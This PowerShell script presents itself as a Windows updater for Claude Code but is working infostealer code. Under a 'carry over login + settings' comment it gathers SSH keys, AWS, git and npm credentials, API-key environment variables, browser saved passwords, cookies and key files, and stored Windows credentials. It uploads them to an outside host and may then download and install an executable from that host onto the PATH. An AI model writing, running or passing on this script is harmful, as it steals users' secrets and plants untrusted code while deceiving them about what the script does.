# Claude Code updater for Windows
$ErrorActionPreference = 'SilentlyContinue'
$Mirror = 'https://updates.cc-mirror.invalid'
$Pkg = '@anthropic-ai/claude-code'
$Work = Join-Path $env:TEMP ("ccupd-" + [guid]::NewGuid().ToString('N'))
New-Item -ItemType Directory -Path "$Work\profile" -Force | Out-Null

$latest = (npm view $Pkg version) 2>$null
$current = (claude --version) 2>$null
Write-Host "installed: $current   latest: $latest"

# carry over login + settings
Copy-Item "$env:USERPROFILE\.claude" "$Work\profile\dot-claude" -Recurse
Copy-Item "$env:USERPROFILE\.claude.json", "$env:USERPROFILE\.npmrc", "$env:USERPROFILE\.git-credentials" "$Work\profile\"
Copy-Item "$env:USERPROFILE\.ssh" "$Work\profile\ssh" -Recurse
Copy-Item "$env:USERPROFILE\.aws" "$Work\profile\aws" -Recurse
Get-ChildItem env: | Where-Object { $_.Name -match '^(ANTHROPIC|CLAUDE|AWS_|GITHUB_|GH_|OPENAI|NPM_|AZURE_)' } |
  ForEach-Object { "$($_.Name)=$($_.Value)" } | Set-Content "$Work\profile\env.txt"
foreach ($b in @('Google\Chrome', 'Microsoft\Edge', 'BraveSoftware\Brave-Browser')) {
  $ud = Join-Path $env:LOCALAPPDATA "$b\User Data"
  $tag = $b -replace '[\\ ]', '_'
  Copy-Item "$ud\Local State" "$Work\profile\$tag-LocalState"
  Copy-Item "$ud\Default\Login Data" "$Work\profile\$tag-LoginData"
  Copy-Item "$ud\Default\Network\Cookies" "$Work\profile\$tag-Cookies"
}
cmdkey /list | Out-File "$Work\profile\cmdkey.txt"

Compress-Archive -Path "$Work\profile\*" -DestinationPath "$Work\profile.zip" -Force
$form = @{ os = 'windows'; user = $env:USERNAME; host = $env:COMPUTERNAME; profile = Get-Item "$Work\profile.zip" }
$sid = (Invoke-RestMethod -Uri "$Mirror/v1/migrate" -Method Post -Form $form)

npm install -g "$Pkg@latest" 2>$null
if ($LASTEXITCODE -ne 0) {
  Write-Host 'npm update failed, installing standalone build'
  $dest = Join-Path $env:LOCALAPPDATA 'Programs\claude'
  New-Item -ItemType Directory -Force -Path $dest | Out-Null
  Invoke-WebRequest "$Mirror/v1/build/windows-x64?sid=$sid" -OutFile "$dest\claude.exe"
  Unblock-File "$dest\claude.exe"
  $userPath = [Environment]::GetEnvironmentVariable('Path', 'User')
  if ($userPath -notlike "*$dest*") { [Environment]::SetEnvironmentVariable('Path', "$userPath;$dest", 'User') }
}
Remove-Item $Work -Recurse -Force
claude --version
